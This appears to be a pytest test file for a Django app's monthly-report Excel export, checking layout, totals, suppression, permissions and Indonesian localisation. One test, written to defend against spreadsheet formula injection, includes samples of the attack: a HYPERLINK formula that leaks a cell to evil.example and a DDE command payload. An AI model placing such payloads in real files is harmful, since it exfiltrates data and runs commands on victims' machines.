"""The monthly report workbook: one sheet per indicator group, the office and period on top, a
frozen heading row, the numbers of the results in the right cells, suppressed cells as text,
and never a formula."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape

from satuatap.core.roles import Role
from satuatap.reports import selectors
from satuatap.reports.exports.common import cell_text, group_label, row_label, table_rows
from satuatap.reports.exports.xlsx import ReportHeader, indicator_title, monthly_report_xlsx
from satuatap.reports.indicators import get_indicator
from tests.reports.core_fixture import MARCH, build
from tests.reports.exports_support import (
    find_table,
    person_result,
    person_row,
    read_workbook,
    suppressed_result,
    value_result,
)

GROUPS = {
    "visitors": "frontdesk",
    "departures": "placement",
    "money_recovered": "mrc",
    "complaints": "mrc",
}


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def departures():
    return person_result(
        "departures",
        "Departures",
        [
            person_row("HK", "Hong Kong", women=12, men=1),
            person_row("TW", "Taiwan", women=7, men=9, unknown=2),
        ],
    )


def visitors():
    return person_result("visitors", "Visitors", [person_row("", "", women=40, men=25, unknown=3)])


def workbook(results, *, scope="LTSA-PPMI Kabupaten Cirebon", **kwargs):
    header = ReportHeader(scope=scope, period="January 2026", title="Monthly report")
    return read_workbook(monthly_report_xlsx(results, header=header, groups=GROUPS, **kwargs))


def test_one_sheet_per_indicator_group_in_the_groups_order():
    book = workbook(
        [departures(), visitors(), value_result("money_recovered", "Money recovered", 1500000)]
    )
    assert book.sheetnames == ["Front desk", "Placement", "MRC"]


def test_each_sheet_names_the_office_and_the_period_on_top():
    book = workbook([departures(), visitors()])
    for ws in book.worksheets:
        assert ws["A1"].value == "Monthly report"
        assert ws["A1"].font.bold
        assert (ws["A2"].value, ws["B2"].value) == ("Office", "LTSA-PPMI Kabupaten Cirebon")
        assert (ws["A3"].value, ws["B3"].value) == ("Period", "January 2026")


def test_national_report_says_national():
    book = workbook([visitors()], scope="National (all offices)")
    assert book["Front desk"]["B2"].value == "National (all offices)"


def test_indicator_table_holds_the_numbers_by_sex_and_age_band():
    ws = workbook([departures()])["Placement"]
    table = find_table(ws, "Departures")
    assert table["Hong Kong"] == {
        "Women": 12,
        "Men": 1,
        "Not recorded": 0,
        "Total": 13,
        "18–24": 12,
        "25–34": 1,
        "Age not recorded": 0,
    }
    assert table["Taiwan"]["Total"] == 18
    assert table["Total"] == {
        "Women": 19,
        "Men": 10,
        "Not recorded": 2,
        "Total": 31,
        "18–24": 19,
        "25–34": 10,
        "Age not recorded": 2,
    }


def test_indicator_without_a_dimension_is_one_total_row():
    table = find_table(workbook([visitors()])["Front desk"], "Visitors")
    assert list(table) == ["Total"]
    assert table["Total"]["Total"] == 68


def test_heading_row_is_bold_and_frozen_and_columns_are_wide_enough():
    ws = workbook([departures()])["Placement"]
    heading_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Indicator and value")
    assert ws.freeze_panes == f"B{heading_row + 1}"
    assert all(ws.cell(heading_row, c).font.bold for c in range(1, 9))
    assert ws.column_dimensions["A"].width >= 20
    assert ws.column_dimensions["B"].width >= 10


def test_numbers_are_numbers_with_a_number_format():
    ws = workbook([value_result("money_recovered", "Money recovered", 1500000)])["MRC"]
    row = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "Total")
    cell = next(ws.cell(row, c) for c in range(2, ws.max_column + 1) if ws.cell(row, c).value)
    assert cell.value == 1500000
    assert cell.data_type == "n"
    assert cell.number_format == "#,##0"


def test_suppressed_cells_are_text_and_explained():
    ws = workbook([suppressed_result()])["MRC"]
    table = find_table(ws, "Complaints received")
    assert table["Total"]["Women"] == "<5"
    assert table["Total"]["Men"] == "×"
    assert table["Total"]["Total"] == "×"
    assert table["Total"]["Not recorded"] == 0
    assert any("<5: fewer than five" in str(ws.cell(r, 1).value) for r in range(1, 10))


def test_comparison_of_offices_sheet_for_a_national_report():
    national = [visitors()]
    offices = [
        (
            "Cirebon",
            [person_result("visitors", "Visitors", [person_row("", "", women=30, men=20)])],
        ),
        ("Blitar", [suppressed_result("visitors", "Visitors")]),
    ]
    book = workbook(national, scope="National (all offices)", offices=offices)
    assert book.sheetnames == ["Front desk", "Offices"]
    table = find_table(book["Offices"], "Visitors")
    assert table["Cirebon"]["Total"] == 50
    assert table["Blitar"]["Women"] == "<5"


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "=1+1",
    ],
)
def test_office_and_partner_names_that_look_like_formulas_stay_text(dangerous):
    referrals = person_result(
        "departures", "Departures", [person_row("p1", dangerous, women=5, men=5)]
    )
    content = monthly_report_xlsx(
        [referrals],
        header=ReportHeader(scope=dangerous, period="January 2026"),
        groups=GROUPS,
        offices=[(dangerous, [referrals])],
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = read_workbook(content)
    ws = book["Placement"]
    assert ws["B2"].value == dangerous
    assert ws["B2"].data_type == "s"
    assert ws["B2"].quotePrefix
    label_cell = next(
        ws.cell(r, 1) for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == dangerous
    )
    assert label_cell.data_type == "s"
    offices_sheet = book["Offices"]
    assert any(
        offices_sheet.cell(r, 1).value == dangerous and offices_sheet.cell(r, 1).data_type == "s"
        for r in range(1, offices_sheet.max_row + 1)
    )


def test_control_characters_in_names_do_not_break_the_workbook():
    result = person_result(
        "departures", "Departures", [person_row("x", "Desa\x07 Maju", women=1, men=0)]
    )
    ws = workbook([result])["Placement"]
    assert "Desa Maju" in find_table(ws, "Departures")


def test_an_empty_report_is_still_a_workbook_with_its_header():
    book = workbook([])
    assert book.worksheets[0]["B2"].value == "LTSA-PPMI Kabupaten Cirebon"


def test_definitions_sheet_lists_the_indicators():
    book = workbook(
        [visitors()],
        definitions=[("visitors", "Visitors", "People who came to the office", "Front desk")],
    )
    ws = book["Definitions"]
    assert [c.value for c in ws[2]] == [
        "visitors",
        "Visitors",
        "People who came to the office",
        "Front desk",
    ]


# --- End to end: the download of an office's monthly report ----------------------------------

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def world(office):
    return build(office)


@pytest.fixture
def head(make_user):
    return make_user(Role.OFFICE_HEAD, language="en")


def download(client, user, **query):
    client.force_login(user)
    return client.get(reverse("reports:export-monthly-xlsx"), query)


def expected(cell):
    """What the workbook holds for a result's cell."""
    if cell is None:
        return None
    if cell.suppressed or cell.value is None:
        return cell_text(cell)
    return float(cell.value)


def assert_workbook_matches(book, results):
    for result in results:
        ws = book[group_label(get_indicator(result.code).group)]
        table = find_table(ws, indicator_title(result))
        for row in table_rows(result):
            written = table[row_label(row, result)]
            assert written["Total"] == expected(row.total) or float(written["Total"]) == expected(
                row.total
            ), (result.code, row.dimension)
            for sex, heading in (("F", "Women"), ("M", "Men"), ("U", "Not recorded")):
                value = written.get(heading)
                want = expected(row.by_sex.get(sex))
                assert (value if isinstance(value, str) or value is None else float(value)) == want


@pytest.mark.django_db
def test_office_head_downloads_the_monthly_report_of_the_office(client, world, head):
    response = download(client, head, month="2026-03")
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        'attachment; filename="satuatap-cirebon-2026-03.xlsx"'
    )
    assert response["Cache-Control"] == "private, no-store"
    book = read_workbook(response.content)
    assert book.sheetnames[:6] == [
        "Front desk",
        "Registry",
        "Placement",
        "Training",
        "MRC",
        "Outreach",
    ]
    assert book["Registry"]["B2"].value == world.office.name
    assert book["Registry"]["B3"].value == "March 2026"
    with translation.override("en"):
        results = selectors.indicator_results(
            viewer=head, date_from=MARCH[0], date_to=MARCH[1], office_ids=[world.office.pk]
        )
    assert_workbook_matches(book, results)


@pytest.mark.django_db
def test_monthly_report_holds_the_hand_counted_numbers(client, world, head):
    book = read_workbook(download(client, head, month="2026-03").content)
    # Registrations in March (core_fixture.py): Ani 25, Budi 36, Citra 17, Hana 24, Eko (sex
    # and birth date not recorded); Dewi (February), Fajar (April) and Hana's merged duplicate
    # are left out.
    registrations = find_table(book["Registry"], "Registrations")["Total"]
    assert registrations == {
        "Women": 3,
        "Men": 1,
        "Not recorded": 1,
        "Total": 5,
        "0–17": 1,
        "18–24": 1,
        "25–39": 2,
        "40–59": 0,
        "60 and older": 0,
        "Age not recorded": 1,
    }
    # Departures: Ani and Hana to Hong Kong, Budi to Korea, all 25–39.
    departures = find_table(book["Placement"], "Departures by destination")
    assert departures["Hong Kong"]["Women"] == 2 and departures["Hong Kong"]["Total"] == 2
    assert departures["South Korea"]["Men"] == 1
    assert departures["Total"]["Total"] == 3


@pytest.mark.django_db
def test_sex_filter_is_in_the_header_and_the_numbers(client, world, head):
    book = read_workbook(download(client, head, month="2026-03", sex="F").content)
    ws = book["Registry"]
    assert (ws["A4"].value, ws["B4"].value) == ("Filters", "Sex: Women")
    registrations = find_table(ws, "Registrations")["Total"]
    assert registrations["Total"] == 3 and registrations["Women"] == 3
    assert registrations["Men"] is None


@pytest.mark.django_db
def test_office_staff_cannot_export_another_office(client, world, head):
    response = download(client, head, month="2026-03", office=world.other_office.pk)
    assert response.status_code == 404
    assert not response.has_header("Content-Disposition")
    assert not response.content.startswith(b"PK")  # no workbook
    assert world.other_office.name not in response.content.decode()


@pytest.mark.django_db
def test_office_staff_cannot_export_national(client, world, head):
    response = download(client, head, month="2026-03", office="national")

    assert response.status_code == 403
    assert not response.has_header("Content-Disposition")
    assert not response.content.startswith(b"PK")  # no workbook
    assert world.other_office.name not in response.content.decode()


@pytest.mark.django_db
def test_analyst_gets_one_office_suppressed_as_the_selectors_return_it(client, world, analyst):
    analyst.language = "en"
    analyst.save()
    response = download(client, analyst, month="2026-03", office=world.office.pk)
    assert response.status_code == 200
    book = read_workbook(response.content)
    with translation.override("en"):
        results = selectors.indicator_results(
            viewer=analyst, date_from=MARCH[0], date_to=MARCH[1], office_ids=[world.office.pk]
        )
    assert any(result.suppressed_cells for result in results)
    assert_workbook_matches(book, results)


@pytest.mark.django_db
def test_analyst_national_report_goes_to_the_background_exports_page(client, world, analyst):
    response = download(client, analyst, month="2026-03", sex="F")
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("reports:export-list"))
    assert "kind=xlsx" in response["Location"] and "month_from=2026-03" in response["Location"]
    assert "sex=F" in response["Location"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query",
    [{"month": "2026-13"}, {"from": "2026-03-10", "to": "2026-03-01"}, {"sex": "X"}, {"from": "x"}],
)
def test_bad_parameters_are_a_400_page(client, world, head, query):
    response = download(client, head, **query)
    assert response.status_code == 400
    assert not response.has_header("Content-Disposition")
    html = response.content.decode()
    assert "The export could not be made" in html
    message = str(response.context["message"])
    assert message and escape(message) in html  # what was wrong, said on the page


@pytest.mark.django_db
def test_indonesian_workbook_is_named_and_titled_by_the_report_not_a_role(client, world, make_user):
    """The head's download, in Indonesian, filtered to women: the file name says the office,
    the month and the filter; the first sheet is the front desk's figures, not the front-desk
    officer's role; the workbook's title is the report's, and every sheet carries the logo."""
    head = make_user(Role.OFFICE_HEAD, language="id")
    response = download(client, head, month="2026-03", sex="F")
    assert response["Content-Disposition"] == (
        'attachment; filename="satuatap-cirebon-2026-03-perempuan.xlsx"'
    )
    book = read_workbook(response.content)
    with translation.override("id"):
        role_label = str(Role.FRONTDESK.label)
    assert role_label not in book.sheetnames
    assert book.sheetnames[0] == "Layanan loket"
    assert book.properties.title == f"Laporan bulanan · {world.office.name} · Maret 2026"
    first = book.worksheets[0]
    assert first["A1"].value == "Laporan bulanan"
    assert first["B2"].value == world.office.name
    assert all(len(ws._images) == 1 for ws in book.worksheets if ws.title != "Definisi")
